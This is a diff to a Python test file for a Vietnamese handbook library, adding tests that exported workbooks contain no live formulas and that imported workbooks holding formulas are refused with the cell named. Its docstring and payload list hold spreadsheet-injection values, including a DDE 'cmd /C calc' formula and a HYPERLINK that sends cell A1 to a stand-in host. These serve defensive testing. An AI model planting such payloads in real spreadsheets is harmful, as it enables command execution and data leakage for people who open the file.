@@ -1,4 +1,5 @@
-"""Hostile input: no live formulas in any workbook the library writes (issue 15, class 3).
+"""Hostile input: no live formulas in any workbook the library writes (issue 15, class 3),
+and none accepted in a workbook it reads.
 
 Roster values such as ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM(…)`` or a tab
 followed by ``=1+1`` are written as text, neutralised with a leading quote as OWASP
@@ -8,21 +9,33 @@ recommends, and read back unchanged.
 from __future__ import annotations
 
 import datetime as dt
+import zipfile
 from pathlib import Path
 
 import attrs
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet.formula import ArrayFormula
 
-from hostile import cli_runner, exported_workbook, open_cell, reported_handbook
-from lamtheoguongbac import DeliverableTarget, Pledge
+from hostile import (
+    cli_runner,
+    edit_workbook,
+    exported_workbook,
+    open_cell,
+    reported_handbook,
+    set_cells,
+)
+from lamtheoguongbac import DeliverableTarget, Handbooks, ImportFailed, Pledge
 from lamtheoguongbac.spreadsheet import (
+    read_inspection_workbook,
     read_workbook,
     workbook_data,
+    write_inspection_workbook,
     write_rollup,
     write_template,
 )
-from strategies import CELL, MEMBER, YEAR, full_report, good_pledges, self_assessment
+from lamtheoguongbac.testing import make_inspection
+from strategies import CELL, MEMBER, SECRETARY, YEAR, full_report, good_pledges, self_assessment
 
 PAYLOADS = [
     '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
@@ -124,3 +137,149 @@ def test_the_cli_writes_no_formula(command: str, tmp_path: Path) -> None:
         result = run("stats", "--org", CELL.id, "--year", str(YEAR), "--xlsx", str(out))
     assert result.exit_code == 0, result.output
     assert _formula_cells(out) == []
+
+
+# --- formulas in the workbooks the library reads --------------------------------------------
+#
+# A workbook to import is untrusted and is read for its values. A cell holding a formula has
+# no value of its own, only what a spreadsheet program last computed (nothing at all when the
+# file was written by another program), so it is refused, named by file, sheet, row and
+# column, and nothing is imported.
+
+FORMULAS = ['=HYPERLINK("http://x.example","a")', "=A1", "=TODAY()", "=1+1"]
+
+
+def _member_row(path: Path, member_id: str) -> int:
+    ws = load_workbook(path)["Đảng viên"]
+    return next(row[0].row for row in ws.iter_rows(min_row=2) if row[0].value == member_id)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_in_a_roster_cell_is_refused_naming_the_cell(
+    formula: str, tmp_path: Path
+) -> None:
+    service = open_cell()
+    reported_handbook(service)
+    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
+    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"chuc_vu": formula})})
+    row = _member_row(path, MEMBER.id)
+    with pytest.raises(ImportFailed) as refused:
+        read_workbook(path)
+    problems = refused.value.errors
+    assert len(problems) == 1, problems
+    text = str(problems[0])
+    assert f"Trang 'Đảng viên', dòng {row}, cột E 'Chức vụ'" in text
+    assert f"sheet 'Đảng viên', row {row}, column E 'Chức vụ'" in text
+    assert "ô chứa công thức" in text
+    assert "the cell holds a formula" in text
+    assert "not a value" in text
+    assert str(path) in refused.value.message("vi")
+    assert str(path) in refused.value.message("en")
+
+
+def test_a_formula_in_a_required_pledge_cell_is_named_not_taken_for_a_blank(
+    tmp_path: Path,
+) -> None:
+    service = open_cell()
+    reported_handbook(service)
+    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
+    edit_workbook(
+        path, {"Việc đăng ký": set_cells(MEMBER.id, {"viec_lam": "=A1", "chi_tieu": "=2*3"})}
+    )
+    with pytest.raises(ImportFailed) as refused:
+        read_workbook(path)
+    text = "\n".join(str(p) for p in refused.value.errors)
+    assert "a value is required" not in text
+    assert "cột C 'Việc làm đăng ký': ô chứa công thức (=A1)" in text
+    assert "column D 'Chỉ tiêu (số lượng)': the cell holds a formula (=2*3), not a value" in text
+
+
+def test_a_formula_in_a_date_cell_is_refused_and_real_dates_still_read(tmp_path: Path) -> None:
+    service = open_cell()
+    reported_handbook(service)
+    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
+    born = dt.date(1980, 5, 17)
+    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"ngay_sinh": born})})
+    assert next(m for m in read_workbook(path).members if m.id == MEMBER.id).date_of_birth == born
+    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"ngay_sinh": "=DATE(1980,5,17)"})})
+    with pytest.raises(ImportFailed, match="cột H 'Ngày sinh': ô chứa công thức"):
+        read_workbook(path)
+
+
+def test_a_formula_in_a_header_is_refused(tmp_path: Path) -> None:
+    service = open_cell()
+    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
+
+    def edit(ws: object) -> None:
+        ws.cell(row=1, column=5, value='="Chức "&"vụ"')  # type: ignore[attr-defined]
+
+    edit_workbook(path, {"Đảng viên": edit})
+    with pytest.raises(ImportFailed) as refused:
+        read_workbook(path)
+    assert "Trang 'Đảng viên', dòng 1: ô E1 chứa công thức" in str(refused.value.errors[0])
+
+
+def test_the_cli_refuses_a_formula_and_keeps_the_stored_position(tmp_path: Path) -> None:
+    """The user trial: a formula in ``Chức vụ`` imported with exit 0 and wiped the position."""
+    url = f"sqlite:///{tmp_path / 'so-tay.db'}"
+    service = open_cell(url)
+    path = exported_workbook(service, tmp_path / "chi-bo.xlsx")
+    service.close()
+    edit_workbook(path, {"Đảng viên": set_cells(MEMBER.id, {"chuc_vu": '=HYPERLINK("x","a")'})})
+    run = cli_runner(url)
+    result = run("workbook", "import", str(path), "--year", str(YEAR), "--as", SECRETARY.id)
+    assert result.exit_code != 0, result.output
+    assert "chứa công thức" in result.output
+    with Handbooks.open(url) as reopened:
+        assert reopened.roster.member(MEMBER.id).position == MEMBER.position
+
+
+def test_a_formula_in_the_inspection_workbook_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "kiem-tra.xlsx"
+    write_inspection_workbook(path, inspection=make_inspection(followed_up=True))
+    wb = load_workbook(path)
+    ws = wb["Kiểm tra"]
+    ws["H2"] = '=CONCAT("Họp ","lại")'  # Yêu cầu
+    ws["C2"] = "=B2"  # Chi bộ: shown for reading only, never read, so a formula is harmless
+    wb.save(path)
+    with pytest.raises(ImportFailed) as refused:
+        read_inspection_workbook(path)
+    problems = [str(p) for p in refused.value.errors]
+    assert len(problems) == 1, problems
+    assert problems[0].startswith("Kiểm tra, dòng 2, cột H (Yêu cầu): ô chứa công thức")
+    assert "the cell holds a formula" in problems[0]
+    assert str(path) in refused.value.message("en")
+
+
+def test_a_formula_is_refused_even_with_the_value_excel_cached(tmp_path: Path) -> None:
+    """Excel saves a formula with its last computed value beside it; that value is not taken
+    either (an array formula, too, is refused, not a crash)."""
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.title = "Đảng viên"
+    ws.append(["Mã đảng viên", "Họ và tên", "Mã chi bộ", "Chức vụ"])
+    ws.append(["dv01", "Nguyễn Văn An", "cb01", "Bí thư"])
+    ws.append(["dv02", "Trần Thị Bình", "cb01", "=B2"])
+    ws["D4"] = ArrayFormula("D4", "=UPPER(B2)")
+    ws["A4"], ws["B4"], ws["C4"] = "dv03", "Lê Minh Cường", "cb01"
+    plain = tmp_path / "plain.xlsx"
+    wb.save(plain)
+    cached = tmp_path / "excel.xlsx"
+    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(cached, "w") as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                before = b'<c r="D3"><f>B2</f><v></v></c>'
+                assert before in data
+                after = '<c r="D3" t="str"><f>B2</f><v>Nguyễn Văn An</v></c>'.encode()
+                data = data.replace(before, after)
+            dst.writestr(info, data)
+    assert load_workbook(cached, data_only=True)["Đảng viên"]["D3"].value == "Nguyễn Văn An"
+    with pytest.raises(ImportFailed) as refused:
+        read_workbook(cached)
+    problems = [str(p) for p in refused.value.errors]
+    assert len(problems) == 2, problems
+    assert problems[0].startswith("Trang 'Đảng viên', dòng 3, cột D 'Chức vụ': ô chứa công thức")
+    assert problems[1].startswith("Trang 'Đảng viên', dòng 4, cột D 'Chức vụ': ô chứa công thức")
+    assert "(=UPPER(B2))" in problems[1]
